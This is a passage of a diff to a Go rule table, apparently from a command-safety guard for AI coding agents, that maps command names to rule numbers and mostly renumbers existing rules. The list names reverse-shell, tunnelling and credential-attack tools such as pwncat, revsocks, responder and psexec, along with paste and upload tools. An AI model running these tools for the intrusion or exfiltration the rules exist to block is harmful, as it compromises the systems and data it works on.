 				Program: 5,
 			},
 			nameEntry{
+				Name:    "oha",
+				Program: -1,
+				Rules:   []uint16{59},
+			},
+			nameEntry{
 				Name:    "okta",
 				Program: 61,
 			},
 			nameEntry{
 				Name:    "okteto",
 				Program: -1,
-				Rules:   []uint16{122, 161},
+				Rules:   []uint16{126, 165},
 			},
 			nameEntry{
 				Name:    "ollama",
@@ -13957,7 +14049,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "op",
 				Program: 61,
-				Rules:   []uint16{18, 23, 37, 42, 175},
+				Rules:   []uint16{18, 23, 37, 42, 179},
 			},
 			nameEntry{
 				Name:    "opam",
@@ -13974,12 +14066,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "opencode",
 				Program: 66,
-				Rules:   []uint16{364, 366},
+				Rules:   []uint16{368, 370},
 			},
 			nameEntry{
 				Name:    "openhands",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "openssl",
@@ -13989,7 +14081,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "openstack",
 				Program: 61,
-				Rules:   []uint16{142, 185},
+				Rules:   []uint16{146, 189},
 			},
 			nameEntry{
 				Name:    "openvpn",
@@ -14002,12 +14094,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "oras",
 				Program: 62,
-				Rules:   []uint16{36, 287, 288},
+				Rules:   []uint16{36, 291, 292},
 			},
 			nameEntry{
 				Name:    "orb",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "ormolu",
@@ -14016,7 +14108,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "osascript",
 				Program: 47,
-				Rules:   []uint16{336, 362},
+				Rules:   []uint16{340, 366},
 			},
 			nameEntry{
 				Name:    "otool",
@@ -14025,17 +14117,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "overmind",
 				Program: 45,
-				Rules:   []uint16{359},
+				Rules:   []uint16{363},
 			},
 			nameEntry{
 				Name:    "ovhai",
 				Program: 61,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "ovsx",
 				Program: -1,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "oxlint",
@@ -14044,7 +14136,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "p4",
 				Program: -1,
-				Rules:   []uint16{259, 260},
+				Rules:   []uint16{263, 264},
 			},
 			nameEntry{
 				Name:    "pa11y",
@@ -14057,12 +14149,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "packet",
 				Program: -1,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "pacman",
 				Program: 44,
-				Rules:   []uint16{343, 363},
+				Rules:   []uint16{347, 367},
 			},
 			nameEntry{
 				Name:    "pagerduty",
@@ -14083,7 +14175,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "parallel-ssh",
 				Program: -1,
-				Rules:   []uint16{126},
+				Rules:   []uint16{130},
 			},
 			nameEntry{
 				Name:    "parcel",
@@ -14092,7 +14184,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "parted",
 				Program: 64,
-				Rules:   []uint16{210},
+				Rules:   []uint16{214},
 			},
 			nameEntry{
 				Name:    "paru",
@@ -14101,12 +14193,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pass",
 				Program: 61,
-				Rules:   []uint16{23, 42, 175},
+				Rules:   []uint16{23, 42, 179},
 			},
 			nameEntry{
 				Name:    "passwd",
 				Program: 64,
-				Rules:   []uint16{319},
+				Rules:   []uint16{323},
 			},
 			nameEntry{
 				Name:    "paste",
@@ -14115,7 +14207,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pastebinit",
 				Program: -1,
-				Rules:   []uint16{281, 290},
+				Rules:   []uint16{285, 294},
 			},
 			nameEntry{
 				Name:    "patch",
@@ -14128,12 +14220,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "payload",
 				Program: 48,
-				Rules:   []uint16{104},
+				Rules:   []uint16{108},
 			},
 			nameEntry{
 				Name:    "paypal",
 				Program: -1,
-				Rules:   []uint16{69},
+				Rules:   []uint16{72},
 			},
 			nameEntry{
 				Name:    "pbcopy",
@@ -14142,12 +14234,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pbpaste",
 				Program: 64,
-				Rules:   []uint16{284},
+				Rules:   []uint16{288},
 			},
 			nameEntry{
 				Name:    "pct",
 				Program: -1,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "pdfgrep",
@@ -14168,12 +14260,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pdm",
 				Program: 42,
-				Rules:   []uint16{98, 285},
+				Rules:   []uint16{102, 289},
 			},
 			nameEntry{
 				Name:    "pdsh",
 				Program: -1,
-				Rules:   []uint16{126, 127},
+				Rules:   []uint16{130, 131},
 			},
 			nameEntry{
 				Name:    "pear",
@@ -14190,7 +14282,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "perl",
 				Program: 46,
-				Rules:   []uint16{301, 302},
+				Rules:   []uint16{305, 306},
 			},
 			nameEntry{
 				Name:    "pest",
@@ -14199,12 +14291,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pfctl",
 				Program: 64,
-				Rules:   []uint16{329},
+				Rules:   []uint16{333},
 			},
 			nameEntry{
 				Name:    "pg_archivecleanup",
 				Program: -1,
-				Rules:   []uint16{110},
+				Rules:   []uint16{114},
 			},
 			nameEntry{
 				Name:    "pg_basebackup",
@@ -14217,17 +14309,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pg_ctl",
 				Program: 58,
-				Rules:   []uint16{109, 324},
+				Rules:   []uint16{113, 328},
 			},
 			nameEntry{
 				Name:    "pg_ctlcluster",
 				Program: -1,
-				Rules:   []uint16{109},
+				Rules:   []uint16{113},
 			},
 			nameEntry{
 				Name:    "pg_dropcluster",
 				Program: 59,
-				Rules:   []uint16{84, 107, 108},
+				Rules:   []uint16{88, 111, 112},
 			},
 			nameEntry{
 				Name:    "pg_dump",
@@ -14248,27 +14340,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pg_resetwal",
 				Program: -1,
-				Rules:   []uint16{109, 110},
+				Rules:   []uint16{113, 114},
 			},
 			nameEntry{
 				Name:    "pg_resetxlog",
 				Program: -1,
-				Rules:   []uint16{109, 110},
+				Rules:   []uint16{113, 114},
 			},
 			nameEntry{
 				Name:    "pg_restore",
 				Program: 59,
-				Rules:   []uint16{91},
+				Rules:   []uint16{95},
 			},
 			nameEntry{
 				Name:    "pg_upgrade",
 				Program: 59,
-				Rules:   []uint16{91},
+				Rules:   []uint16{95},
 			},
 			nameEntry{
 				Name:    "pgbackrest",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "pgbench",
@@ -14298,12 +14390,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "phinx",
 				Program: 48,
-				Rules:   []uint16{101, 102},
+				Rules:   []uint16{105, 106},
 			},
 			nameEntry{
 				Name:    "php",
 				Program: 45,
-				Rules:   []uint16{101, 102, 105, 293, 301, 302},
+				Rules:   []uint16{105, 106, 109, 297, 305, 306},
 			},
 			nameEntry{
 				Name:    "php-cs-fixer",
@@ -14348,7 +14440,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ping",
 				Program: 55,
-				Rules:   []uint16{275},
+				Rules:   []uint16{279},
 			},
 			nameEntry{
 				Name:    "ping6",
@@ -14357,7 +14449,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pinggy",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "pint",
@@ -14366,7 +14458,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pip",
 				Program: 41,
-				Rules:   []uint16{296, 297, 306},
+				Rules:   []uint16{300, 301, 310},
 			},
 			nameEntry{
 				Name:    "pip2",
@@ -14375,7 +14467,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pip3",
 				Program: 41,
-				Rules:   []uint16{296, 297, 306},
+				Rules:   []uint16{300, 301, 310},
 			},
 			nameEntry{
 				Name:    "pipenv",
@@ -14384,7 +14476,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pipx",
 				Program: 40,
-				Rules:   []uint16{296, 300},
+				Rules:   []uint16{300, 304},
 			},
 			nameEntry{
 				Name:    "pixi",
@@ -14393,12 +14485,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pkexec",
 				Program: 64,
-				Rules:   []uint16{348},
+				Rules:   []uint16{352},
 			},
 			nameEntry{
 				Name:    "pkg",
 				Program: 44,
-				Rules:   []uint16{343, 363},
+				Rules:   []uint16{347, 367},
 			},
 			nameEntry{
 				Name:    "pkg_add",
@@ -14407,17 +14499,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pkill",
 				Program: 63,
-				Rules:   []uint16{321, 323, 324, 326, 373},
+				Rules:   []uint16{325, 327, 328, 330, 377},
 			},
 			nameEntry{
 				Name:    "plandex",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "planetscale",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "plantuml",
@@ -14426,7 +14518,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "platform",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "playwright",
@@ -14439,7 +14531,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "plink",
 				Program: -1,
-				Rules:   []uint16{283},
+				Rules:   []uint16{287},
 			},
 			nameEntry{
 				Name:    "plocate",
@@ -14452,12 +14544,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pm2",
 				Program: 45,
-				Rules:   []uint16{17, 313, 338, 359},
+				Rules:   []uint16{17, 317, 342, 363},
 			},
 			nameEntry{
 				Name:    "pm2-kill",
 				Program: -1,
-				Rules:   []uint16{358},
+				Rules:   []uint16{362},
 			},
 			nameEntry{
 				Name:    "pmap",
@@ -14466,7 +14558,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pmset",
 				Program: 64,
-				Rules:   []uint16{327},
+				Rules:   []uint16{331},
 			},
 			nameEntry{
 				Name:    "pngquant",
@@ -14475,37 +14567,37 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pnpm",
 				Program: 39,
-				Rules:   []uint16{28, 94, 95, 96, 97, 98, 99, 101, 102, 105, 123, 147, 148, 285, 286, 296, 297, 306},
+				Rules:   []uint16{28, 98, 99, 100, 101, 102, 103, 105, 106, 109, 127, 151, 152, 289, 290, 300, 301, 310},
 			},
 			nameEntry{
 				Name:    "pnpx",
 				Program: 40,
-				Rules:   []uint16{300},
+				Rules:   []uint16{304},
 			},
 			nameEntry{
 				Name:    "pod",
 				Program: 44,
-				Rules:   []uint16{285, 286},
+				Rules:   []uint16{289, 290},
 			},
 			nameEntry{
 				Name:    "podman",
 				Program: 62,
-				Rules:   []uint16{36, 37, 43, 162, 163, 165, 166, 167, 168, 169, 170, 177, 287},
+				Rules:   []uint16{36, 37, 43, 166, 167, 169, 170, 171, 172, 173, 174, 181, 291},
 			},
 			nameEntry{
 				Name:    "podman-compose",
 				Program: 62,
-				Rules:   []uint16{164},
+				Rules:   []uint16{168},
 			},
 			nameEntry{
 				Name:    "poe",
 				Program: 45,
-				Rules:   []uint16{98},
+				Rules:   []uint16{102},
 			},
 			nameEntry{
 				Name:    "poetry",
 				Program: 42,
-				Rules:   []uint16{285, 297, 306},
+				Rules:   []uint16{289, 301, 310},
 			},
 			nameEntry{
 				Name: "popd",
@@ -14513,12 +14605,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "port",
 				Program: 44,
-				Rules:   []uint16{363},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "porter",
 				Program: 61,
-				Rules:   []uint16{146, 176},
+				Rules:   []uint16{150, 180},
 			},
 			nameEntry{
 				Name:    "postcss",
@@ -14527,17 +14619,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "poweroff",
 				Program: 64,
-				Rules:   []uint16{327, 328},
+				Rules:   []uint16{331, 332},
 			},
 			nameEntry{
 				Name:    "powershell",
 				Program: 4,
-				Rules:   []uint16{305},
+				Rules:   []uint16{309},
 			},
 			nameEntry{
 				Name:    "powershell.exe",
 				Program: -1,
-				Rules:   []uint16{305},
+				Rules:   []uint16{309},
 			},
 			nameEntry{
 				Name:    "pr",
@@ -14577,17 +14669,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "prisma",
 				Program: 48,
-				Rules:   []uint16{94, 95, 96},
+				Rules:   []uint16{98, 99, 100},
 			},
 			nameEntry{
 				Name:    "prlctl",
 				Program: 61,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "profiles",
 				Program: -1,
-				Rules:   []uint16{362},
+				Rules:   []uint16{366},
 			},
 			nameEntry{
 				Name:    "promptfoo",
@@ -14596,7 +14688,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "promtool",
 				Program: -1,
-				Rules:   []uint16{112},
+				Rules:   []uint16{116},
 			},
 			nameEntry{
 				Name:    "protoc",
@@ -14614,12 +14706,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "proxmox",
 				Program: -1,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "proxmox-backup-client",
 				Program: -1,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "ps",
@@ -14633,22 +14725,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pscale",
 				Program: 61,
-				Rules:   []uint16{18, 27, 146, 185},
+				Rules:   []uint16{18, 27, 150, 189},
 			},
 			nameEntry{
 				Name:    "psexec",
 				Program: -1,
-				Rules:   []uint16{348},
+				Rules:   []uint16{352},
 			},
 			nameEntry{
 				Name:    "psql",
 				Program: 58,
-				Rules:   []uint16{113},
+				Rules:   []uint16{117},
 			},
 			nameEntry{
 				Name:    "pssh",
 				Program: -1,
-				Rules:   []uint16{126, 127},
+				Rules:   []uint16{130, 131},
 			},
 			nameEntry{
 				Name:    "pstree",
@@ -14669,12 +14761,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pulsar-admin",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "pulumi",
 				Program: 61,
-				Rules:   []uint16{18, 19, 37, 49, 122, 124, 125},
+				Rules:   []uint16{18, 19, 37, 49, 126, 128, 129},
 			},
 			nameEntry{
 				Name:    "pup",
@@ -14683,7 +14775,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "puppet",
 				Program: 61,
-				Rules:   []uint16{181},
+				Rules:   []uint16{185},
 			},
 			nameEntry{
 				Name:    "puppeteer",
@@ -14695,12 +14787,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pvmove",
 				Program: -1,
-				Rules:   []uint16{223},
+				Rules:   []uint16{227},
 			},
 			nameEntry{
 				Name:    "pvremove",
 				Program: 64,
-				Rules:   []uint16{210, 223},
+				Rules:   []uint16{214, 227},
 			},
 			nameEntry{
 				Name:    "pvs",
@@ -14712,17 +14804,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pwncat",
 				Program: -1,
-				Rules:   []uint16{272},
+				Rules:   []uint16{276},
 			},
 			nameEntry{
 				Name:    "pwsh",
 				Program: 4,
-				Rules:   []uint16{305},
+				Rules:   []uint16{309},
 			},
 			nameEntry{
 				Name:    "pwsh.exe",
 				Program: -1,
-				Rules:   []uint16{305},
+				Rules:   []uint16{309},
 			},
 			nameEntry{
 				Name:    "py.test",
@@ -14755,7 +14847,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "pypi-cleanup",
 				Program: -1,
-				Rules:   []uint16{286},
+				Rules:   []uint16{290},
 			},
 			nameEntry{
 				Name:    "pypy",
@@ -14785,17 +14877,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "python",
 				Program: 45,
-				Rules:   []uint16{101, 103, 105, 293, 301, 302},
+				Rules:   []uint16{105, 107, 109, 297, 305, 306},
 			},
 			nameEntry{
 				Name:    "python2",
 				Program: 45,
-				Rules:   []uint16{293},
+				Rules:   []uint16{297},
 			},
 			nameEntry{
 				Name:    "python3",
 				Program: 45,
-				Rules:   []uint16{101, 103, 105, 293, 301, 302},
+				Rules:   []uint16{105, 107, 109, 297, 305, 306},
 			},
 			nameEntry{
 				Name:    "pyupgrade",
@@ -14804,17 +14896,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "q",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "qdrant",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "qm",
 				Program: -1,
-				Rules:   []uint16{171},
+				Rules:   []uint16{175},
 			},
 			nameEntry{
 				Name:    "qmake",
@@ -14823,7 +14915,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "qovery",
 				Program: -1,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "qrencode",
@@ -14844,17 +14936,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "qwen",
 				Program: 66,
-				Rules:   []uint16{364, 366},
+				Rules:   []uint16{368, 370},
 			},
 			nameEntry{
 				Name:    "rabbitmqadmin",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "rabbitmqctl",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "racket",
@@ -14863,22 +14955,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rails",
 				Program: 48,
-				Rules:   []uint16{100, 101},
+				Rules:   []uint16{104, 105},
 			},
 			nameEntry{
 				Name:    "railway",
 				Program: 61,
-				Rules:   []uint16{17, 18, 27, 37, 124, 143, 185},
+				Rules:   []uint16{17, 18, 27, 37, 128, 147, 189},
 			},
 			nameEntry{
 				Name:    "rake",
 				Program: 45,
-				Rules:   []uint16{98, 100, 101},
+				Rules:   []uint16{102, 104, 105},
 			},
 			nameEntry{
 				Name:    "rancher",
 				Program: 61,
-				Rules:   []uint16{176},
+				Rules:   []uint16{180},
 			},
 			nameEntry{
 				Name:    "ranlib",
@@ -14892,7 +14984,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rbash",
 				Program: -1,
-				Rules:   []uint16{346},
+				Rules:   []uint16{350},
 			},
 			nameEntry{
 				Name:    "rbenv",
@@ -14906,17 +14998,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rc-service",
 				Program: 64,
-				Rules:   []uint16{324, 338},
+				Rules:   []uint16{328, 342},
 			},
 			nameEntry{
 				Name:    "rc-update",
 				Program: -1,
-				Rules:   []uint16{313},
+				Rules:   []uint16{317},
 			},
 			nameEntry{
 				Name:    "rclone",
 				Program: 57,
-				Rules:   []uint16{133, 134, 182, 280, 290, 290, 292},
+				Rules:   []uint16{137, 138, 186, 284, 294, 294, 296},
 			},
 			nameEntry{
 				Name:    "rd",
@@ -14925,7 +15017,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rdiff-backup",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name: "read",
@@ -14946,7 +15038,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "reagentc",
 				Program: -1,
-				Rules:   []uint16{227},
+				Rules:   []uint16{231},
 			},
 			nameEntry{
 				Name: "realpath",
@@ -14958,12 +15050,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "reboot",
 				Program: 64,
-				Rules:   []uint16{327, 328},
+				Rules:   []uint16{331, 332},
 			},
 			nameEntry{
 				Name:    "redis-cli",
 				Program: 58,
-				Rules:   []uint16{85, 87, 88, 109, 115},
+				Rules:   []uint16{89, 91, 92, 113, 119},
 			},
 			nameEntry{
 				Name:    "redis-dump",
@@ -14976,32 +15068,32 @@ var shipped = Set{
 			nameEntry{
 				Name:    "reg",
 				Program: 64,
-				Rules:   []uint16{41, 361},
+				Rules:   []uint16{41, 365},
 			},
 			nameEntry{
 				Name:    "reg.exe",
 				Program: -1,
-				Rules:   []uint16{41, 361},
+				Rules:   []uint16{41, 365},
 			},
 			nameEntry{
 				Name:    "regasm",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "regctl",
 				Program: 62,
-				Rules:   []uint16{287, 288},
+				Rules:   []uint16{291, 292},
 			},
 			nameEntry{
 				Name:    "regsvr32",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "regsvr32.exe",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "reindexdb",
@@ -15010,7 +15102,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "release-it",
 				Program: -1,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "remix",
@@ -15027,7 +15119,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "render",
 				Program: 61,
-				Rules:   []uint16{27, 146, 185},
+				Rules:   []uint16{27, 150, 189},
 			},
 			nameEntry{
 				Name:    "renice",
@@ -15040,7 +15132,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "reposurgeon",
 				Program: -1,
-				Rules:   []uint16{253},
+				Rules:   []uint16{257},
 			},
 			nameEntry{
 				Name: "reset",
@@ -15052,42 +15144,42 @@ var shipped = Set{
 			nameEntry{
 				Name:    "resolvectl",
 				Program: 55,
-				Rules:   []uint16{275},
+				Rules:   []uint16{279},
 			},
 			nameEntry{
 				Name:    "responder",
 				Program: -1,
-				Rules:   []uint16{40, 334},
+				Rules:   []uint16{40, 338},
 			},
 			nameEntry{
 				Name:    "restart-computer",
 				Program: -1,
-				Rules:   []uint16{358},
+				Rules:   []uint16{362},
 			},
 			nameEntry{
 				Name:    "restic",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "restrain",
 				Program: 66,
-				Rules:   []uint16{368},
+				Rules:   []uint16{372},
 			},
 			nameEntry{
 				Name:    "restrain-bash",
 				Program: -1,
-				Rules:   []uint16{368},
+				Rules:   []uint16{372},
 			},
 			nameEntry{
 				Name:    "restrain-canary",
 				Program: -1,
-				Rules:   []uint16{369},
+				Rules:   []uint16{373},
 			},
 			nameEntry{
 				Name:    "restrain-zsh",
 				Program: -1,
-				Rules:   []uint16{368},
+				Rules:   []uint16{372},
 			},
 			nameEntry{
 				Name: "return",
@@ -15107,7 +15199,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "revsocks",
 				Program: -1,
-				Rules:   []uint16{272},
+				Rules:   []uint16{276},
 			},
 			nameEntry{
 				Name:    "rg",
@@ -15141,7 +15233,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rke",
 				Program: -1,
-				Rules:   []uint16{176},
+				Rules:   []uint16{180},
 			},
 			nameEntry{
 				Name:    "rm",
@@ -15158,12 +15250,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "robocopy",
 				Program: -1,
-				Rules:   []uint16{215},
+				Rules:   []uint16{219},
 			},
 			nameEntry{
 				Name:    "robocopy.exe",
 				Program: -1,
-				Rules:   []uint16{215},
+				Rules:   []uint16{219},
 			},
 			nameEntry{
 				Name:    "robot",
@@ -15172,7 +15264,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rockcraft",
 				Program: 32,
-				Rules:   []uint16{285},
+				Rules:   []uint16{289},
 			},
 			nameEntry{
 				Name:    "rollup",
@@ -15181,27 +15273,27 @@ var shipped = Set{
 			nameEntry{
 				Name:    "roo",
 				Program: 66,
-				Rules:   []uint16{364},
+				Rules:   []uint16{368},
 			},
 			nameEntry{
 				Name:    "rosa",
 				Program: -1,
-				Rules:   []uint16{176},
+				Rules:   []uint16{180},
 			},
 			nameEntry{
 				Name:    "route",
 				Program: 55,
-				Rules:   []uint16{331},
+				Rules:   []uint16{335},
 			},
 			nameEntry{
 				Name:    "rpk",
 				Program: -1,
-				Rules:   []uint16{107},
+				Rules:   []uint16{111},
 			},
 			nameEntry{
 				Name:    "rpm",
 				Program: 44,
-				Rules:   []uint16{296, 343, 363},
+				Rules:   []uint16{300, 347, 367},
 			},
 			nameEntry{
 				Name:    "rqlite",
@@ -15210,12 +15302,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rsend",
 				Program: -1,
-				Rules:   []uint16{281},
+				Rules:   []uint16{285},
 			},
 			nameEntry{
 				Name:    "rsnapshot",
 				Program: 65,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "rspec",
@@ -15224,7 +15316,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rsync",
 				Program: 57,
-				Rules:   []uint16{48, 216},
+				Rules:   []uint16{48, 220},
 			},
 			nameEntry{
 				Name:    "rtk",
@@ -15237,7 +15329,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "ruby",
 				Program: 45,
-				Rules:   []uint16{293, 301, 302},
+				Rules:   []uint16{297, 305, 306},
 			},
 			nameEntry{
 				Name:    "ruff",
@@ -15246,22 +15338,22 @@ var shipped = Set{
 			nameEntry{
 				Name:    "run0",
 				Program: -1,
-				Rules:   []uint16{348},
+				Rules:   []uint16{352},
 			},
 			nameEntry{
 				Name:    "runas",
 				Program: -1,
-				Rules:   []uint16{348},
+				Rules:   []uint16{352},
 			},
 			nameEntry{
 				Name:    "rundll32",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "rundll32.exe",
 				Program: -1,
-				Rules:   []uint16{303},
+				Rules:   []uint16{307},
 			},
 			nameEntry{
 				Name:    "runhaskell",
@@ -15270,12 +15362,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "runpodctl",
 				Program: 61,
-				Rules:   []uint16{142},
+				Rules:   []uint16{146},
 			},
 			nameEntry{
 				Name:    "runuser",
 				Program: 64,
-				Rules:   []uint16{315},
+				Rules:   []uint16{319},
 			},
 			nameEntry{
 				Name:    "rush",
@@ -15296,12 +15388,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "rustic",
 				Program: -1,
-				Rules:   []uint16{186},
+				Rules:   []uint16{190},
 			},
 			nameEntry{
 				Name:    "rustscan",
 				Program: -1,
-				Rules:   []uint16{334},
+				Rules:   []uint16{338},
 			},
 			nameEntry{
 				Name:    "rustup",
@@ -15314,17 +15406,17 @@ var shipped = Set{
 			nameEntry{
 				Name:    "s3cmd",
 				Program: 61,
-				Rules:   []uint16{133, 134, 280, 290},
+				Rules:   []uint16{137, 138, 284, 294},
 			},
 			nameEntry{
 				Name:    "s5cmd",
 				Program: 61,
-				Rules:   []uint16{133, 134, 280, 290},
+				Rules:   []uint16{137, 138, 284, 294},
 			},
 			nameEntry{
 				Name:    "salt",
 				Program: 61,
-				Rules:   []uint16{126, 127, 181},
+				Rules:   []uint16{130, 131, 185},
 			},
 			nameEntry{
 				Name:    "salt-call",
@@ -15333,12 +15425,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sam",
 				Program: 61,
-				Rules:   []uint16{122, 124},
+				Rules:   []uint16{126, 128},
 			},
 			nameEntry{
 				Name:    "sanity",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "sar",
@@ -15363,12 +15455,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "sc",
 				Program: 64,
-				Rules:   []uint16{313, 324, 360},
+				Rules:   []uint16{317, 328, 364},
 			},
 			nameEntry{
 				Name:    "sc.exe",
 				Program: -1,
-				Rules:   []uint16{360, 361},
+				Rules:   []uint16{364, 365},
 			},
 			nameEntry{
 				Name:    "scala",
@@ -15381,7 +15473,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "scalingo",
 				Program: 61,
-				Rules:   []uint16{146},
+				Rules:   []uint16{150},
 			},
 			nameEntry{
 				Name:    "scc",
@@ -15394,12 +15486,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "schtasks",
 				Program: 64,
-				Rules:   []uint16{312, 361},
+				Rules:   []uint16{316, 365},
 			},
 			nameEntry{
 				Name:    "schtasks.exe",
 				Program: -1,
-				Rules:   []uint16{361},
+				Rules:   []uint16{365},
 			},
 			nameEntry{
 				Name:    "scons",
@@ -15408,7 +15500,7 @@ var shipped = Set{
 			nameEntry{
 				Name:    "scoop",
 				Program: 44,
-				Rules:   []uint16{363},
+				Rules:   []uint16{367},
 			},
 			nameEntry{
 				Name:    "scp",
@@ -15418,12 +15510,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "screen",
 				Program: 63,
-				Rules:   []uint16{370},
+				Rules:   []uint16{374},
 			},
 			nameEntry{
 				Name:    "screencapture",
 				Program: -1,
-				Rules:   []uint16{284},
+				Rules:   []uint16{288},
 			},
 			nameEntry{
 				Name:    "script",
@@ -15432,12 +15524,12 @@ var shipped = Set{
 			nameEntry{
 				Name:    "scrot",
 				Program: -1,
-				Rules:   []uint16{284},
+				Rules:   []uint16{288},
 			},
 			nameEntry{
 				Name:    "scrub",
 				Program: -1,
